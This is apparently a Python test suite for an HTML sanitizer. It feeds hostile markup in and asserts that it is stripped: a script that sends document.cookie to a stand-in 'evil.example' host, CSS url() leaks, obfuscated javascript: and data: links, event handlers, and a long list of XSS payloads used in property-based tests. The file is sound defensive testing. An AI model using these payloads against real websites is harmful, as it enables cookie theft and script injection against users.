"""The sanitizer: one test per hostile construct, what is kept, and a property over hostile soup."""

from __future__ import annotations

import html as htmllib
import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from sync.snapshots.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_html

# ---------------------------------------------------------------------------------------------- one per construct


def test_script_is_removed_with_its_content() -> None:
    out = sanitize_html(
        "<p>before<script>fetch('https://evil.example/?c=' + document.cookie)</script>after</p>"
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</script>"
    )
    assert "<script" not in out.lower()
    assert "document.cookie" not in out
    assert "evil.example" not in out
    assert out.startswith("<p>beforeafter</p>")


def test_inline_event_handlers_are_removed() -> None:
    out = sanitize_html(
        '<p onclick="alert(1)" ONMOUSEOVER=steal()>text</p><img src="inflow-asset:1" onerror="alert(2)" alt="a">'
        '<a href="https://example.org/" onfocus="alert(3)" autofocus>link</a><body onload=alert(4)>'
    )
    assert not re.search(r"on\w+\s*=", out, re.IGNORECASE)
    assert "alert" not in out
    assert '<img src="inflow-asset:1" alt="a">' in out
    assert "autofocus" not in out


def test_javascript_and_data_urls_are_removed() -> None:
    out = sanitize_html(
        '<a href="javascript:alert(1)">a</a><a href="  JaVaScRiPt&#58;alert(1)">b</a>'
        '<a href="jav&#x09;ascript:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>'
        '<a href="data:text/html;base64,PHNjcmlwdD4=">e</a><a href="vbscript:msgbox(1)">f</a>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="g"><img src="javascript:alert(1)">'
    )
    decoded = htmllib.unescape(out).lower()
    for scheme in ("javascript:", "data:", "vbscript:"):
        assert scheme not in decoded
    assert "<img" not in out
    assert out.count('<a rel="noopener noreferrer">') == 6  # the text stays, the link goes


def test_iframes_objects_and_embeds_are_removed() -> None:
    out = sanitize_html(
        '<iframe src="https://evil.example/"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'
        '</iframe><object data="https://evil.example/x.swf"><param name=a></object>'
        '<embed src="https://evil.example/y.swf"><frameset><frame src="https://evil.example/"></frameset><p>kept</p>'
    )
    assert out == "<p>kept</p>"


def test_css_url_exfiltration_is_impossible() -> None:
    out = sanitize_html(
        '<style>body { background: url("https://evil.example/leak") } @import url(https://evil.example/i.css);</style>'
        '<link rel="stylesheet" href="https://evil.example/s.css">'
        "<p style=\"background-image: url('https://evil.example/leak?p=2')\">styled</p>"
        '<div style="behavior: url(https://evil.example/x.htc); width: expression(alert(1))">old IE</div>'
        '<p class="x" id="y">classed</p>'
    )
    assert "style=" not in out
    assert "<style" not in out
    assert "url(" not in out
    assert "evil.example" not in out
    assert out == "<p>styled</p><div>old IE</div><p>classed</p>"


def test_svg_with_script_is_removed() -> None:
    out = sanitize_html(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
        '<image href="https://evil.example/i.png"/><a xlink:href="javascript:alert(3)"><text>t</text></a></svg>'
        "<math><mtext><img src=x onerror=alert(4)></mtext></math><p>kept</p>"
    )
    assert out == "<p>kept</p>"


def test_only_kept_assets_may_be_images() -> None:
    out = sanitize_html(
        '<p>a<img src="https://example.org/remote.png" alt="remote">b</p><img src="/relative.png">'
        '<img src="inflow-asset:2" alt="kept" width="10" srcset="https://evil.example/x 2x" loading="lazy">'
        '<img src="INFLOW-ASSET:3"><img src="inflow-asset:../../etc">'
    )
    assert out == '<p>ab</p><img src="inflow-asset:2" alt="kept">'


def test_links_get_noopener_and_structure_is_kept() -> None:
    source = (
        "<h2>Title</h2><p>Some <em>emphasis</em>, <strong>strong</strong>, <code>code</code> and "
        '<a href="https://example.org/a?b=1&amp;c=2" title="t" target="_blank">a link</a>.</p>'
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>quote</p></blockquote>'
        '<pre>x &lt; y</pre><table><thead><tr><th scope="col">h</th></tr></thead>'
        '<tbody><tr><td colspan="2">c</td></tr></tbody></table>'
        '<figure><img src="inflow-asset:1" alt="f"><figcaption>cap</figcaption></figure><hr><br>'
        '<a href="mailto:someone@example.org">mail</a>'
    )
    out = sanitize_html(source)
    assert '<a href="https://example.org/a?b=1&amp;c=2" title="t" rel="noopener noreferrer">a link</a>' in out
    assert "target" not in out
    for fragment in ("<h2>Title</h2>", "<em>emphasis</em>", "<ol start=\"3\">", "<blockquote><p>quote</p></blockquote>",
                     "<pre>x &lt; y</pre>", '<td colspan="2">c</td>', '<th scope="col">h</th>',
                     '<figure><img src="inflow-asset:1" alt="f"><figcaption>cap</figcaption></figure>',
                     '<a href="mailto:someone@example.org" rel="noopener noreferrer">mail</a>'):  # fmt: skip
        assert fragment in out


def test_forms_and_comments_are_removed() -> None:
    out = sanitize_html(
        '<form action="https://evil.example/"><input name=a><button>go</button></form><!-- x --><p>k</p>'
    )
    assert out == "<p>k</p>"


# ---------------------------------------------------------------------------------------------- the property
DANGEROUS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script", "</script>",
    '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">', '<img src="data:image/png;base64,AAAA">',
    '<img src="inflow-asset:1" alt="ok">', '<img src="inflow-asset:1" onload="x()">', "<img src=//evil.example/p.gif>",
    '<a href="javascript:alert(1)">j</a>', '<a href="JaVaScRiPt&#58;alert(1)">j</a>', '<a href="&#106;avascript:x">',
    '<a href="jav&#x09;ascript:alert(1)">', '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>', '<a href="https://example.org/" onclick="x()">ok</a>',
    '<iframe src="https://evil.example/"></iframe>', "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe",
    "<object data=x></object>", "<embed src=x>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", '<p style="background:url(https://evil.example/)">',
    "<style>@import url(https://evil.example/x.css)</style>", '<div style="width:expression(alert(1))">',
    "<body onload=alert(1)>", "<form action=https://evil.example/><input></form>", "<textarea>", "<title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--", "-->", "<![CDATA[", "]]>",
    '<link rel=stylesheet href=https://evil.example/>', '<meta http-equiv="refresh" content="0;url=javascript:x">',
    '<base href="javascript:x//">', "<table><td background=javascript:x>", '<p title="a" onmouseover="x()">',
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<xmp>", "<plaintext>",
    "<p>", "</p>", "<b>", "</a>", "<li>", "<pre>", "<code>", "<table>", "<tr>", "<td>",
]  # fmt: skip
GLUE = ['"', "'", ">", "<", "=", "/", " ", "\t", "\n", "&", ";", "#", "x", "safe text", "more words here"]


def case_variants(fragment: str) -> st.SearchStrategy[str]:
    return st.sampled_from([fragment, fragment.upper(), fragment.swapcase()])


hostile_html = st.lists(st.sampled_from(DANGEROUS).flatmap(case_variants) | st.sampled_from(GLUE), max_size=25).map(
    "".join
)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]], str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs, self.get_starttag_text() or ""))


def _compact(value: str) -> str:
    return re.sub(r"[\x00-\x20\x7f-\x9f]", "", htmllib.unescape(value)).lower()


@settings(max_examples=400, deadline=None)
@given(hostile_html)
def test_no_output_ever_contains_an_executable_construct(source: str) -> None:
    out = sanitize_html(source)
    # 1. As a string (raw and entity-decoded): no tag that runs or loads anything. Text-node "<" is always
    #    escaped and attribute values never contain "<", so these can only be real tags.
    for text in (out, htmllib.unescape(out)):
        assert not re.search(r"<(script|iframe|svg|math|object|embed|style|form|link|meta|base)\b", text, re.I), out
    # 2. The markup: every tag and attribute is on the allow-list; no handler, no style, safe URLs only.
    parser = Tags()
    parser.feed(out)
    parser.close()
    for tag, attrs, raw in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, out)
        skeleton = re.sub(r'\s(alt|title)="[^"]*"', "", raw)  # text attributes may say anything, quoted
        for text in (skeleton, htmllib.unescape(skeleton)):
            assert not re.search(r"\son\w+\s*=", text, re.IGNORECASE), out
            assert "style=" not in text.lower(), out
            for scheme in ("javascript:", "vbscript:", "data:"):
                assert scheme not in _compact(text), out
        for name, raw_value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or (tag == "a" and name == "rel"), (name, out)
            value = raw_value or ""
            if name == "src":
                assert tag == "img"
                assert value.startswith("inflow-asset:"), out
            if name == "href":
                assert _compact(value).startswith(("http:", "https:", "mailto:")), out
            assert "<" not in value and ">" not in value
        if tag == "img":
            assert any(name == "src" for name, _ in attrs), out
        if tag == "a":
            assert ("rel", "noopener noreferrer") in attrs


@settings(max_examples=200, deadline=None)
@given(hostile_html)
def test_sanitizing_is_idempotent(source: str) -> None:
    once = sanitize_html(source)
    assert sanitize_html(once) == once
